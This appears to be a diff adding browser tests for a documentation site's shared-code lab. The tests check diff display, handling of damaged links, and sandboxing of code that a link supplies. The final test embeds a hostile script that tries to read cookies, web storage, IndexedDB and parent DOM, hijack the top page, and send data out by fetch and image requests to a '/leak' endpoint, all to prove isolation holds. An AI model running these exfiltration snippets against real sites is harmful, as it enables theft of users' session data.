@@ -1,0 +1,176 @@
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+
+import { openSite, type PageOptions, type Site } from "../../../../tests/browser/site.ts";
+import { labPage } from "../lab-page.ts";
+import { encodeShared } from "./codec.ts";
+import { linkHash } from "./link.ts";
+
+let site: Site;
+beforeAll(async () => {
+  site = await openSite();
+});
+afterAll(() => site.close());
+
+async function linkTo(edits: Readonly<Record<string, string>>): Promise<string> {
+  const encoded = await encodeShared({ lab: "counter", variant: "cjs", edits });
+  if (encoded.is === "wrong") throw new Error("too large");
+  return `/guide?lang=cjs${linkHash("counter", encoded.code)}`;
+}
+
+async function open(path: string, options?: PageOptions) {
+  const page = await site.open(path, options);
+  return { page, lab: labPage(page, "counter") };
+}
+
+const served = (html: string) => `
+const { createServer } = require("node:http");
+createServer((req, res) => {
+  if (req.method === "POST") {
+    req.setEncoding("utf8");
+    req.on("data", (text) => console.log(text));
+    req.on("end", () => res.end());
+  } else {
+    res.setHeader("content-type", "text/html");
+    res.end(${JSON.stringify(html)});
+  }
+}).listen(process.env.PORT);
+`;
+
+describe.each(["mouse", "keyboard"] as const)("by %s", (hand) => {
+  test("a copied link opens with the edits as a diff, and runs them only when asked to", async () => {
+    const { page, lab } = await open("/guide?lang=cjs");
+    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
+    await lab.press(lab.button("Edit the files"), hand);
+    const editor = lab.lab.getByRole("textbox", { name: "Code of index.js" });
+    await editor.focus();
+    await page.keyboard.press("Control+Home");
+    await page.keyboard.insertText('console.log("from a link");\n');
+    await lab.press(lab.button("Copy a link"), hand);
+    await lab.status(/^Copied a link/);
+    const url = new URL(await page.evaluate(() => navigator.clipboard.readText()));
+
+    const { page: other, lab: opened } = await open(url.pathname + url.search + url.hash);
+    await opened.lab.locator("ins", { hasText: "from a link" }).waitFor();
+    expect(await opened.lab.getAttribute("data-phase")).toBe("idle");
+    expect(other.workers()).toHaveLength(0);
+    expect(other.frames()).toHaveLength(1);
+    await opened.press(opened.button("Run with these edits"), hand);
+    await opened.status(/^Running/);
+    await opened.lab.getByText(/^What the server prints/).click();
+    await opened.lab.getByRole("log").getByText("from a link").waitFor();
+  });
+});
+
+test("a link can be left alone: the original runs", async () => {
+  const { lab } = await open(await linkTo({ "index.js": served("<p>not the counter</p>") }));
+  await lab.button("Keep the original").click();
+  await lab.run();
+  await lab.page({ browser: "Browser A", tab: "Tab 1" }).getByText("Count:").waitFor();
+});
+
+describe("a link that can't be used says so, and the original runs", () => {
+  const damages: Readonly<Record<string, (path: string) => string>> = {
+    truncated: (path) => path.slice(0, -5),
+    tampered: (path) => path.replace(/.(?=.{9}$)/, (old) => (old === "A" ? "B" : "A")),
+    "of no code at all": (path) => path.replace(/counter\..*/, "counter.!%20"),
+    endless: (path) => path + "A".repeat(20_000),
+  };
+  test.each(Object.keys(damages))("%s", async (name) => {
+    const path = await linkTo({ "index.js": served("<p>not the counter</p>") });
+    const { page, lab } = await open(damages[name]?.(path) ?? path);
+    await lab.lab.getByRole("alert").filter({ hasText: "Below is the original." }).waitFor();
+    expect(page.workers()).toHaveLength(0);
+    await lab.run();
+    await lab.page({ browser: "Browser A", tab: "Tab 1" }).getByText("Count:").waitFor();
+  });
+
+  test("about a file that the example has not", async () => {
+    const { lab } = await open(await linkTo({ "stolen.js": "" }));
+    await lab.lab.getByRole("alert").filter({ hasText: "damaged" }).waitFor();
+  });
+});
+
+/** Ways to what is the site's; each fails, or says what it reached. */
+const ways: Readonly<Record<string, string>> = {
+  "cookies of the site": "if (/docs-secret/.test(document.cookie)) return document.cookie; throw 0",
+  "the cookie store":
+    "if ((await cookieStore.getAll()).some((c) => /docs-secret/.test(c.value))) return 'cookie'; throw 0",
+  localStorage: "return localStorage.getItem('docs-secret').length",
+  sessionStorage: "return sessionStorage.getItem('docs-secret').length",
+  "the page's DOM": "return parent.document.title",
+  "the top page's DOM": "return top.document.title",
+  "the top page's address": "top.location.href = SITE + 'stolen'; return 'gone'",
+  IndexedDB:
+    "const r = indexedDB.open('docs-secret'); await new Promise((ok, no) => { r.onsuccess = ok; r.onerror = no; }); if (r.result.objectStoreNames.length === 0) throw 0; return 'open'",
+  "a service worker":
+    "await navigator.serviceWorker.register(SITE + 'preview-sw.js'); return 'registered'",
+  caches: "return String(await caches.keys())",
+  // Every page of the docs names its generator, and no other.
+  "the network of the site":
+    "return (await (await fetch(SITE + 'docs-secret.txt')).text()).includes('Docu' + 'saurus') ? 'read' : Promise.reject(0)",
+  "another site":
+    "return (await fetch('http://127.0.0.1:1/leak', { mode: 'no-cors' })).type === 'opaque' ? 'sent' : Promise.reject(0)",
+  "an image elsewhere":
+    "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://127.0.0.1:1/leak.png'; }); return 'loaded'",
+  "a popup": "if (window.open(SITE) === null) throw 0; return 'opened'",
+};
+
+test("code and pages of a link reach nothing of the site", async () => {
+  const attempts = Object.entries(ways).map(
+    ([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`,
+  );
+  const script = `
+    const SITE = ${JSON.stringify(site.url)};
+    new BroadcastChannel("docs-secret").postMessage("out");
+    const attempts = { ${attempts.join(",\n")} };
+    (async () => {
+      const results = await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
+        const late = new Promise((_, no) => setTimeout(no, 4000));
+        return name + " = " + await Promise.race([attempt(), late]).then((v) => "OUT " + v, () => "kept in");
+      }));
+      const x = new XMLHttpRequest();
+      x.open("POST", "/");
+      x.send(results.join("\\n") + "\\nall tried");
+    })();`;
+  const link = await linkTo({ "index.js": served(`<p>hostile</p><script>${script}</script>`) });
+  const { page, lab } = await open(link, { allow: { console: [/./], requests: [/./] } });
+  await page.evaluate(() => {
+    document.cookie = "docs=docs-secret";
+    localStorage.setItem("docs-secret", "1");
+    sessionStorage.setItem("docs-secret", "1");
+    const heard: unknown[] = [];
+    new BroadcastChannel("docs-secret").onmessage = ({ data }) => heard.push(data);
+    Object.assign(window, { heard });
+    return new Promise<void>((done) => {
+      const opening = indexedDB.open("docs-secret", 1);
+      opening.onupgradeneeded = () => opening.result.createObjectStore("kept");
+      opening.onsuccess = () => {
+        opening.result.close();
+        done();
+      };
+    });
+  });
+  const address = page.url();
+  const leaks: string[] = [];
+  const isLeak = (url: string) => /leak|stolen|docs-secret/.test(new URL(url).pathname);
+  page.context().on("response", (response) => {
+    if (isLeak(response.url())) leaks.push(response.url());
+  });
+  page.context().on("requestfailed", (request) => {
+    // Stopped by the page's policy before it began; any other failure is one of the network's.
+    const reason = request.failure()?.errorText ?? "failed";
+    if (isLeak(request.url()) && reason !== "csp") leaks.push(`${reason}: ${request.url()}`);
+  });
+  await lab.button("Run with these edits").click();
+  await lab.status(/^Running/);
+  await lab.lab.getByText(/^What the server prints/).click();
+  const log = lab.lab.getByRole("log");
+  await log.getByText("all tried").first().waitFor();
+  const printed = await log.innerText();
+  for (const name of Object.keys(ways)) expect(printed).toContain(`${name} = kept in`);
+  expect(printed).not.toContain("= OUT");
+  expect(await page.evaluate(() => Reflect.get(window, "heard") as unknown)).toEqual([]);
+  expect(page.url()).toBe(address);
+  expect(leaks).toEqual([]);
+  expect(page.context().pages()).toHaveLength(1);
+});
